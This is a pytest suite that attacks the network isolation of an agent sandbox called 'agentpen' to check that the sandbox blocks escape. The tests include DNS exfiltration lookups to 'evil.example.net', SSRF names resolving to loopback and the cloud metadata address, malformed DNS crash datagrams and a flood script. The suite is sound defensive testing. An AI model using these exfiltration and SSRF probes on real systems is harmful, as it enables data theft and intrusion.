"""Attack battery, network: the internet without the proxy, host-local services, being
reached from the host, DNS as a side channel, and making the proxy dial a private address.
Through the full `agentpen` command as an unprivileged user; each refusal has a control."""

from __future__ import annotations

import base64
import contextlib
import errno
import json
import os
import select
import socket
import subprocess
import sys
import textwrap
import threading
import time

import pytest

AGENTPEN = [sys.executable, "-m", "agentpen.supervisor"]
PY = "/usr/bin/python3"
ENETUNREACH, EPERM, EACCES = errno.ENETUNREACH, errno.EPERM, errno.EACCES


def host_addresses() -> list[str]:
    out = subprocess.run(["ip", "-j", "addr"], capture_output=True, text=True, check=True, timeout=10)
    return [i["local"] for a in json.loads(out.stdout) for i in a["addr_info"]
            if i.get("scope") == "global"]


class Servers:
    """TCP and UDP 'pong' servers on the host, plus unix sockets; each counts its clients."""

    def __init__(self) -> None:
        self.hits: dict[str, int] = {}
        self._socks: list[socket.socket] = []

    def _thread(self, target, *args) -> None:
        threading.Thread(target=target, args=args, daemon=True).start()

    def tcp(self, name: str, family: int, addr: tuple) -> int:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.bind(addr)
        s.listen(16)
        self._socks.append(s)
        self.hits[name] = 0
        self._thread(self._accept, name, s)
        return s.getsockname()[1]

    def unix(self, name: str, path: str) -> None:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(path)
        s.listen(16)
        self._socks.append(s)
        self.hits[name] = 0
        self._thread(self._accept, name, s)

    def _accept(self, name: str, s: socket.socket) -> None:
        while True:
            try:
                c, _ = s.accept()
            except OSError:
                return
            self.hits[name] += 1
            with c:
                c.settimeout(5)
                with contextlib.suppress(OSError):
                    c.recv(64)
                    c.sendall(b"pong")

    def udp(self, name: str, family: int, addr: tuple) -> int:
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.bind(addr)
        self._socks.append(s)
        self.hits[name] = 0
        self._thread(self._udp, name, s)
        return s.getsockname()[1]

    def _udp(self, name: str, s: socket.socket) -> None:
        while True:
            try:
                _data, peer = s.recvfrom(2048)
            except OSError:
                return
            if peer is None:  # shut down
                return
            self.hits[name] += 1
            with contextlib.suppress(OSError):
                s.sendto(b"pong", peer)

    def close(self) -> None:
        for s in self._socks:
            with contextlib.suppress(OSError):
                s.shutdown(socket.SHUT_RDWR)
            s.close()


@pytest.fixture
def servers():
    s = Servers()
    yield s
    s.close()


def _fam(host: str) -> int:
    return socket.AF_INET6 if ":" in host else socket.AF_INET


EXTERNAL = ["192.0.2.1", "1.1.1.1", "10.255.255.53", "2001:db8::1", "2606:4700:4700::1111", "fd00::1"]


def test_internet_without_the_proxy_tcp_udp_raw_icmp_v4_v6(prober):
    checks: list[dict] = [{"name": "counters_before", "op": "netcounters"}]
    for ip in EXTERNAL:
        # 1 s: inside, no route fails at once; on the host a timeout is as good as an answer
        checks.append({"name": f"tcp {ip}", "op": "tcp", "host": ip, "port": 443, "timeout": 1})
        checks.append({"name": f"udp {ip}", "op": "udp", "host": ip, "port": 53, "timeout": 0.3})
    checks += [
        {"name": "ping4", "op": "icmp_echo", "host": "192.0.2.1"},
        {"name": "ping6", "op": "icmp_echo", "host": "2001:db8::1"},
        {"name": "raw4", "op": "socket", "family": "AF_INET", "type": "SOCK_RAW", "proto": 1},
        {"name": "raw6", "op": "socket", "family": "AF_INET6", "type": "SOCK_RAW", "proto": 58},
        {"name": "rawtcp", "op": "socket", "family": "AF_INET", "type": "SOCK_RAW", "proto": 6},
        {"name": "packet", "op": "socket", "family": "AF_PACKET", "type": "SOCK_RAW", "proto": 768},
        {"name": "bind_eth0", "op": "bind_device_connect", "dev": "eth0", "host": "192.0.2.1", "port": 443},
        {"name": "ip_link_up", "op": "run", "argv": ["/usr/sbin/ip", "link", "set", "eth0", "up"]},
        {"name": "ip_addr", "op": "run",
         "argv": ["/usr/sbin/ip", "addr", "add", "10.0.2.15/24", "dev", "eth0"]},
        {"name": "ip_route", "op": "run", "argv": ["/usr/sbin/ip", "route", "add", "default", "dev", "eth0"]},
        {"name": "nft_flush", "op": "run", "argv": ["/usr/sbin/nft", "flush", "ruleset"]},
        {"name": "proxy_port", "op": "tcp", "host": "127.0.0.1", "port": 443},
        {"name": "counters_after", "op": "netcounters"},
    ]
    host = prober.host(checks)
    # controls on the host: the routes exist there, so the same probes get past routing
    for ip in ("192.0.2.1", "1.1.1.1", "2001:db8::1"):
        assert host[f"udp {ip}"].get("sent"), (ip, host[f"udp {ip}"])
        assert host[f"tcp {ip}"].get("errno") != ENETUNREACH, (ip, host[f"tcp {ip}"])
    res, run = prober.inside(checks)
    assert res["proxy_port"]["ok"], res["proxy_port"]  # control: the one door answers
    for ip in EXTERNAL:
        for kind in ("tcp", "udp"):
            r = res[f"{kind} {ip}"]
            assert not r["ok"] and r["errno"] == ENETUNREACH, (kind, ip, r)
    for k in ("ping4", "ping6"):
        assert not res[k]["ok"] and res[k]["errno"] in (EACCES, EPERM, ENETUNREACH), (k, res[k])
    for k in ("raw4", "raw6", "rawtcp", "packet"):
        assert not res[k]["ok"] and res[k]["errno"] == EPERM, (k, res[k])
    assert not res["bind_eth0"]["ok"], res["bind_eth0"]
    for k in ("ip_link_up", "ip_addr", "ip_route", "nft_flush"):
        assert not res[k]["ok"] and res[k]["rc"] != 0, (k, res[k])
    devs = res["counters_after"]["devs"]
    assert set(devs) == {"lo", "eth0"}, devs  # pasta's tap, down, and lo
    assert devs["eth0"]["tx_packets"] == 0 and devs["eth0"]["rx_packets"] == 0, devs
    assert devs["lo"]["tx_packets"] > res["counters_before"]["devs"]["lo"]["tx_packets"]
    actions = run.actions()
    assert "session-ended" in actions


def test_host_local_services_are_unreachable(prober, sandbox, servers):
    targets: dict[str, dict] = {}
    for ip in ["127.0.0.1", "::1", *host_addresses()]:
        port = servers.tcp(f"tcp {ip}", _fam(ip), (ip, 0))
        targets[f"tcp {ip}"] = {"op": "tcp", "host": ip, "port": port, "send": "ping"}
        uport = servers.udp(f"udp {ip}", _fam(ip), (ip, 0))
        targets[f"udp {ip}"] = {"op": "udp", "host": ip, "port": uport}
    abstract = f"agentpen-attack-{os.urandom(4).hex()}"
    servers.unix("abstract", "\0" + abstract)
    targets["abstract"] = {"op": "unix", "path": abstract, "abstract": True, "send": "ping"}
    sockdir = sandbox.root / "hostsock"
    sockdir.mkdir()
    servers.unix("fs_unix", str(sockdir / "service.sock"))
    targets["fs_unix"] = {"op": "unix", "path": str(sockdir / "service.sock"), "send": "ping"}
    agent_sock = sandbox.env()["SSH_AUTH_SOCK"]
    servers.unix("ssh_agent", agent_sock)
    targets["ssh_agent"] = {"op": "unix", "path": agent_sock, "send": "ping"}
    checks = [{"name": k, **v} for k, v in targets.items()]
    uid = os.getuid()
    fixed = {"session_bus": f"/run/user/{uid}/bus", "system_bus": "/var/run/dbus/system_bus_socket",
             "system_bus_run": "/run/dbus/system_bus_socket", "docker": "/var/run/docker.sock",
             "docker_run": "/run/docker.sock", "containerd": "/run/containerd/containerd.sock",
             "podman": f"/run/user/{uid}/podman/podman.sock"}
    checks += [{"name": k, "op": "unix", "path": p} for k, p in fixed.items()]
    checks += [{"name": "ls_run", "op": "listdir", "path": "/run"},
               {"name": "ls_var_run", "op": "listdir", "path": "/var/run"}]
    host = prober.host(checks)
    for k in targets:  # control: every service answers the same probe on the host
        assert host[k]["ok"] and host[k]["reply"] == "pong", (k, host[k])
    assert host["ls_run"]["entries"], "control: the host's /run is not empty"
    before = dict(servers.hits)
    res, _ = prober.inside(checks)
    for k in targets:
        assert not res[k]["ok"], (k, res[k])
    for k in fixed:
        assert not res[k]["ok"] and res[k]["errno"] == errno.ENOENT, (k, res[k])
    assert res["ls_run"].get("entries") == [], res["ls_run"]  # a private, empty tmpfs
    assert res["ls_var_run"].get("entries") == [] or res["ls_var_run"]["errno"] == errno.ENOENT
    assert servers.hits == before, "a host service saw a client from the sandbox"


def test_host_port_door_control_reaches_exactly_the_opened_port(prober, servers):
    """Control for the test above: the inside probe does reach a host service when the
    door is opened (--host-port), and only that one."""
    opened = servers.tcp("opened", socket.AF_INET, ("127.0.0.1", 0))
    other = servers.tcp("other", socket.AF_INET, ("127.0.0.1", 0))
    checks = [{"name": "opened", "op": "tcp", "host": "127.0.0.1", "port": opened, "send": "ping"},
              {"name": "other", "op": "tcp", "host": "127.0.0.1", "port": other, "send": "ping"}]
    res, _ = prober.inside(checks, "--host-port", str(opened))
    assert res["opened"]["ok"] and res["opened"]["reply"] == "pong", res["opened"]
    assert not res["other"]["ok"] and res["other"]["errno"] == errno.ECONNREFUSED


INSIDE_SERVER = textwrap.dedent("""
    import socket, sys
    socks = []
    for fam, addr in ((socket.AF_INET, ("127.0.0.1", int(sys.argv[1]))),
                      (socket.AF_INET6, ("::1", int(sys.argv[1]))),
                      (socket.AF_INET, ("0.0.0.0", int(sys.argv[2]))),
                      (socket.AF_INET6, ("::", int(sys.argv[3])))):
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(addr); s.listen(8); socks.append(s)
    c = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5)
    a, _ = socks[0].accept(); a.close(); c.close()
    print("READY self-connect-ok", flush=True)
    sys.stdin.read()  # until the host closes our stdin
""")


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _readline(stream, timeout: float) -> str:
    deadline = time.monotonic() + timeout
    buf = b""
    fd = stream.fileno()
    while not buf.endswith(b"\n"):
        left = deadline - time.monotonic()
        assert left > 0, f"timed out waiting for a line, got {buf!r}"
        r, _, _ = select.select([fd], [], [], left)
        if r:
            chunk = os.read(fd, 1)
            assert chunk, f"EOF before a line, got {buf!r}"
            buf += chunk
    return buf.decode()


def test_sandbox_servers_are_not_reachable_from_the_host(sandbox):
    lo_port, any_port, any6_port, published = _free_port(), _free_port(), _free_port(), _free_port()
    script = sandbox.project / ".inside-server.py"
    script.write_text(INSIDE_SERVER)
    audit = sandbox.root / "reach.jsonl"
    p = sandbox.popen("--publish", f"{published}:{any_port}", "--", PY, str(script), str(lo_port),
                      str(any_port), str(any6_port), audit=audit, stdin=subprocess.PIPE,
                      stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        assert "READY self-connect-ok" in _readline(p.stdout, 60)  # control: they listen
        attempts = {}
        for ip in ["127.0.0.1", "::1", *host_addresses()]:
            for port in (lo_port, any_port, any6_port):
                try:
                    socket.create_connection((ip, port), timeout=3).close()
                    attempts[(ip, port)] = "connected"
                except OSError as exc:
                    attempts[(ip, port)] = errno.errorcode.get(exc.errno or 0, str(exc))
        # control: the explicit door reaches the sandbox's server from the host
        with socket.create_connection(("127.0.0.1", published), timeout=5):
            pass
        # ... and only on the host's loopback: the LAN (the host's own addresses) does not
        for ip in host_addresses():
            try:
                socket.create_connection((ip, published), timeout=3).close()
                attempts[(ip, published)] = "connected"
            except OSError as exc:
                attempts[(ip, published)] = errno.errorcode.get(exc.errno or 0, str(exc))
    finally:
        _out, err = p.communicate(timeout=60)  # closes the command's stdin: it exits
    assert p.returncode == 0, err
    assert all(v != "connected" for v in attempts.values()), attempts


def test_dns_is_no_side_channel(prober, sandbox, upstream):
    exfil = [f"{os.urandom(6).hex()}.exfil.evil.example.net" for _ in range(5)]
    checks: list[dict] = [{"name": "before", "op": "netcounters"}]
    checks += [{"name": f"gai {n}", "op": "getaddrinfo", "host": n} for n in exfil]
    checks += [
        {"name": "txt", "op": "dns", "server": "127.0.0.1", "qname": "secret-AAAA.evil.example.net",
         "qtype": 16},
        {"name": "txt6", "op": "dns", "server": "::1", "qname": "secret-BBBB.evil.example.net", "qtype": 16},
        {"name": "any_allowed_parent", "op": "dns", "server": "127.0.0.1", "qname": "x.api.example.com"},
        {"name": "tcp53", "op": "dns", "server": "127.0.0.1", "qname": "evil.example.net", "tcp": True},
        {"name": "allowed_a", "op": "dns", "server": "127.0.0.1", "qname": upstream.name},
        {"name": "allowed_txt", "op": "dns", "server": "127.0.0.1", "qname": upstream.name, "qtype": 16},
        {"name": "gai_allowed", "op": "getaddrinfo", "host": upstream.name},
        {"name": "after", "op": "netcounters"},
        {"name": "direct_resolver", "op": "dns", "server": "10.255.255.53", "qname": "evil.example.net"},
        {"name": "after_direct", "op": "netcounters"},
    ]
    res, run = prober.inside(checks, "--allow", upstream.name)
    # controls: the allowed name resolves, to loopback only, through the same resolver
    assert res["allowed_a"]["rcode"] == 0 and res["allowed_a"]["answers"] == 1, res["allowed_a"]
    assert res["gai_allowed"]["ok"] and set(res["gai_allowed"]["addrs"]) <= {"127.0.0.1", "::1"}
    for n in exfil:
        r = res[f"gai {n}"]
        assert not r["ok"] and r["errno"] == socket.EAI_NONAME, r
        assert r["secs"] < 0.9, r  # refused fast: below the 1 s resolver timeout, so no retry, no wait
    for k in ("txt", "txt6", "any_allowed_parent"):
        assert res[k]["ok"] and res[k]["rcode"] == 3 and res[k]["answers"] == 0, (k, res[k])
    assert res["allowed_txt"]["rcode"] == 0 and res["allowed_txt"]["answers"] == 0
    assert not res["tcp53"]["ok"] and res["tcp53"]["errno"] == errno.ECONNREFUSED, res["tcp53"]
    assert not res["direct_resolver"]["ok"] and res["direct_resolver"]["errno"] == ENETUNREACH
    # No packet left the namespace, and nothing even tried to route out while resolving
    # (OutNoRoutes counts every attempt that found no route: a forwarder would show there).
    b, a, d = res["before"], res["after"], res["after_direct"]
    assert a["devs"]["eth0"]["tx_packets"] == 0 and d["devs"]["eth0"]["tx_packets"] == 0
    assert a["snmp"]["Ip.OutNoRoutes"] == b["snmp"]["Ip.OutNoRoutes"], (b["snmp"], a["snmp"])
    assert d["snmp"]["Ip.OutNoRoutes"] > a["snmp"]["Ip.OutNoRoutes"]  # control: the counter moves
    refused = {e["dns"]["question"]["name"] for e in run.audit() if e["event"]["action"] == "dns-refused"}
    assert set(exfil) <= refused, refused  # the attempt is visible in the audit stream
    assert upstream.accepted == 0


# A DNS query whose question has a 66-byte label: dnslib parses it but cannot pack a reply
# for it (found by tests/fuzz/fuzz_policy.py, crash-4c500f0f...).
FUZZ_CRASH = base64.b64decode(
    "APAAAAABAAAAAAAAAgAAAQAhAAAAAAAAAgAAAQAAAAAAAAAAAAAAQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJC"
    "QkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJC"
    "QkJCQkJCQkIAAAABAAAAAAAAAAACAAABAAEAAAAAAAACAAABAAAAAAAAAAAAAAAAAAABAAAAAAAAAI8=")


def test_hostile_dns_datagrams_do_not_take_the_resolver_down(prober, upstream):
    long_label = (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"\x40" + b"a" * 64
                  + b"\x03com\x00\x00\x01\x00\x01")
    checks = [{"name": "fuzz_crash", "op": "udp", "host": "127.0.0.1", "port": 53,
               "payload_hex": FUZZ_CRASH.hex()},
              {"name": "long_label", "op": "udp", "host": "::1", "port": 53, "payload_hex": long_label.hex()},
              # a question name of compression pointers that loop (fuzz_policy.py, crash-d1e18110)
              *({"name": f"pointer_loop{i}", "op": "udp", "host": "127.0.0.1", "port": 53,
                 "payload_hex": "c00107c00030000000d72f2dc000", "timeout": 0.2} for i in range(50)),
              {"name": "after", "op": "dns", "server": "127.0.0.1", "qname": upstream.name},
              {"name": "gai_after", "op": "getaddrinfo", "host": upstream.name}]
    res, run = prober.inside(checks, "--allow", upstream.name)
    # the resolver still answers the allowed name afterwards, and the session ends normally
    assert res["after"]["ok"] and res["after"]["rcode"] == 0 and res["after"]["answers"] == 1, res
    assert res["gai_after"]["ok"], res["gai_after"]
    actions = run.actions()
    assert actions[-1] == "session-ended" and run.audit()[-1]["event"]["outcome"] == "success", actions


DNS_FLOOD = textwrap.dedent("""
    import os, socket
    held = []  # 60 malformed hellos: proxy verdicts keep the supervisor busy...
    for i in range(60):
        s = socket.create_connection(("127.0.0.1", 443))
        s.sendall(b"\\x16\\x03\\x01\\x00\\x05hello")
        held.append(s)
    for i in range(40):  # ...while 40 refused names queue dns-refused events (the burst limit)
        try:
            socket.getaddrinfo(f"n{i}-{os.urandom(3).hex()}.evil.example.net", 443)
        except socket.gaierror:
            pass
    print("flood-done", flush=True)
""")


def test_exit_status_survives_a_busy_netns_channel(sandbox):
    """The sandbox can turn its own clean exit into agentpen's 125 by queueing audit events
    just before it exits. A race: _loop reads one netns message per select round and checks
    pasta.poll() after each; measured 45-65% of sessions lose it, so 10 sessions pass by luck
    well under 1% of the time."""
    script = sandbox.project / ".dnsflood.py"
    script.write_text(DNS_FLOOD)
    codes = []
    for _ in range(10):
        r = sandbox.run("--", PY, str(script), timeout=60)
        assert "flood-done" in r.stdout, r.stderr  # control: the command ran to its end
        codes.append(r.returncode)
        if r.returncode != 0:
            break  # one wrong status is the finding; no need to run the rest
    assert codes == [0] * 10, codes


def test_every_attempt_just_before_exit_is_audited(sandbox):
    """An agent that probes the allowlist and exits at once must leave every attempt in
    the audit stream: 60 denied connections, 40 refused names, the DNS summary."""
    script = sandbox.project / ".dnsflood.py"
    script.write_text(DNS_FLOOD)
    want = {"connection-denied": 60, "dns-refused": 40, "dns-summary": 1}
    for _ in range(4):  # a race: up to 4 sessions, stop at the first that loses anything
        r = sandbox.run("--", PY, str(script), timeout=60)
        assert "flood-done" in r.stdout, r.stderr  # control: every attempt was made
        actions = r.actions()
        counts = {a: actions.count(a) for a in want}
        if counts != want:
            break
    assert counts == want, counts


def _listeners(tables: dict[str, str]) -> set[tuple[str, str]]:
    """(table, local address:port in /proc/net hex) of every listening TCP or bound UDP socket."""
    out = set()
    for name, text in tables.items():
        for line in text.splitlines()[1:]:
            f = line.split()
            if len(f) > 3 and (name.startswith("udp") or f[3] == "0A"):  # 0A: TCP_LISTEN
                out.add((name, f[1]))
    return out


def test_the_namespace_holds_only_the_two_doors(prober, servers):
    """Inventory of the sandbox's network namespace: the proxy on 443/tcp and the resolver
    on 53/udp, on 127.0.0.1 and ::1, nothing else: no pasta splice socket, no unix socket
    (abstract or not) a worker could have left listening."""
    servers.tcp("control", socket.AF_INET, ("127.0.0.1", 0))
    checks = [{"name": t, "op": "read", "path": f"/proc/net/{t}"}
              for t in ("tcp", "tcp6", "udp", "udp6", "raw", "raw6", "unix")]
    host = prober.host(checks)
    assert _listeners({t: host[t]["data"] for t in ("tcp", "tcp6", "udp", "udp6")}), "control"
    res, _ = prober.inside(checks)
    got = _listeners({t: res[t]["data"] for t in ("tcp", "tcp6", "udp", "udp6")})
    v6_lo = "00000000000000000000000001000000"
    assert got == {("tcp", "0100007F:01BB"), ("tcp6", v6_lo + ":01BB"),
                   ("udp", "0100007F:0035"), ("udp6", v6_lo + ":0035")}, got
    for t in ("raw", "raw6", "unix"):
        assert len(res[t]["data"].splitlines()) == 1, (t, res[t]["data"])  # the header only


# -- the proxy must not dial a private address -----------------------------------------

HOSTS_NS = textwrap.dedent("""
    # Runs agentpen in a user + mount namespace where /etc/hosts is the test's: the only
    # way for an unprivileged test to control what a name resolves to on the "host".
    import ctypes, os, sys
    libc = ctypes.CDLL(None, use_errno=True)
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(0x10000000 | 0x20000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
        raise OSError(ctypes.get_errno(), "unshare")
    with open("/proc/self/setgroups", "w") as f: f.write("deny")
    with open("/proc/self/uid_map", "w") as f: f.write(f"{uid} {uid} 1")
    with open("/proc/self/gid_map", "w") as f: f.write(f"{gid} {gid} 1")
    if libc.mount(b"none", b"/", None, (1 << 14) | (1 << 18), None) != 0:  # MS_REC|MS_PRIVATE
        raise OSError(ctypes.get_errno(), "make-private")
    if libc.mount(sys.argv[1].encode(), b"/etc/hosts", None, 4096, None) != 0:  # MS_BIND
        raise OSError(ctypes.get_errno(), "bind /etc/hosts")
    os.execv(sys.argv[2], sys.argv[2:])
""")

HOSTILE = {
    "loop.example.com": ["127.0.0.1"],
    "loop6.example.com": ["::1"],
    "private.example.com": ["10.1.2.3"],
    "metadata.example.com": ["169.254.169.254"],
    "mapped.example.com": ["::ffff:127.0.0.1"],
    "nat64.example.com": ["64:ff9b::7f00:1"],
    "unspec.example.com": ["0.0.0.0"],
    "mixed.example.com": ["127.0.0.2", "10.0.0.1", "fd00::2"],
    "hostself.example.com": [],  # filled with the host's own addresses
}


def test_proxy_refuses_names_that_resolve_to_private_addresses(sandbox, upstream):
    hosts = sandbox.root / "hosts"
    lines = ["127.0.0.1 localhost"]
    table = dict(HOSTILE, **{"hostself.example.com": host_addresses()})
    for name, ips in table.items():
        lines += [f"{ip} {name}" for ip in ips]
    lines.append(f"10.9.9.9 {upstream.name}")  # the pin must win over any resolution
    hosts.write_text("\n".join(lines) + "\n")
    wrapper = sandbox.root / "hostsns.py"
    wrapper.write_text(HOSTS_NS)
    # control outside agentpen: in that namespace, the names do resolve to those addresses
    ctl = subprocess.run([sys.executable, str(wrapper), str(hosts), "/usr/bin/getent", "ahosts",
                          "private.example.com"], capture_output=True, text=True, timeout=30)
    assert "10.1.2.3" in ctl.stdout, (ctl.stdout, ctl.stderr)
    audit = sandbox.root / "private.jsonl"
    allow = [a for n in table for a in ("--allow", n)]
    curls = "; ".join(f"curl -sk --max-time 10 https://{n}/ >/dev/null 2>&1; echo {n}=$?" for n in table)
    script = f"curl -sS --max-time 10 --cacert {upstream.cert} https://{upstream.name}/; {curls}"
    argv = [sys.executable, str(wrapper), str(hosts), *AGENTPEN, "--log-format", "json",
            "--audit-log", str(audit), *allow, "--allow", upstream.name,
            "--upstream", f"{upstream.name}=127.0.0.1:{upstream.port}", "--mount", str(upstream.cert),
            "--", "sh", "-c", script]
    p = subprocess.run(argv, cwd=sandbox.project, env=sandbox.env(), capture_output=True, text=True,
                       timeout=120, stdin=subprocess.DEVNULL)
    assert p.returncode == 0, p.stderr
    assert "hello from upstream" in p.stdout, (p.stdout, p.stderr)  # control: the pinned name works
    for name in table:
        assert f"{name}=0" not in p.stdout, p.stdout
    events = [json.loads(x) for x in audit.read_text().splitlines() if x]
    closed = {e["destination"]["domain"]: e for e in events if e["event"]["action"] == "connection-closed"}
    for name, ips in table.items():
        e = closed[name]
        assert e["event"]["outcome"] == "failure" and e["destination"]["bytes"] == 0, e
        msg = e["error"]["message"]
        assert "no public address" in msg and all(ip in msg for ip in ips), msg
    assert upstream.accepted == 1  # only the pinned control reached the (loopback) upstream


def test_allowlist_refuses_names_that_only_mean_local_things():
    """What remains for --allow: local-only names, IP literals in any spelling and
    single-label names (resolved through search domains, e.g. this host's 'vm' and
    'runsc' in /etc/hosts) are refused before a session starts."""
    from agentpen.workers.proxy.allowlist import normalize_allow_entry

    with open("/etc/hosts") as f:
        names = {w for line in f if not line.startswith("#") for w in line.split()[1:]}
    assert names, "control: /etc/hosts names something"
    for n in [*names, "localhost.localdomain", "ip6-localhost", "ip6-loopback", "printer.local",
              "x.internal", "2130706433", "0x7f000001", "017700000001", "127.1", "[::1]",
              "::ffff:127.0.0.1", "metadata.google.internal", "_gateway", "host.docker.internal"]:
        with pytest.raises(ValueError):
            normalize_allow_entry(n)
    assert normalize_allow_entry("Api.Example.COM.") == "api.example.com"  # control


def test_wrapper_namespace_is_real(sandbox):
    """The /etc/hosts override is visible only inside the wrapper's namespace."""
    hosts = sandbox.root / "hosts"
    hosts.write_text("10.7.7.7 only-in-ns.example.com\n")
    wrapper = sandbox.root / "hostsns.py"
    wrapper.write_text(HOSTS_NS)
    inside = subprocess.run([sys.executable, str(wrapper), str(hosts), "/usr/bin/getent", "hosts",
                             "only-in-ns.example.com"], capture_output=True, text=True, timeout=30)
    outside = subprocess.run(["getent", "hosts", "only-in-ns.example.com"], capture_output=True,
                             text=True, timeout=30)
    assert "10.7.7.7" in inside.stdout and outside.returncode != 0
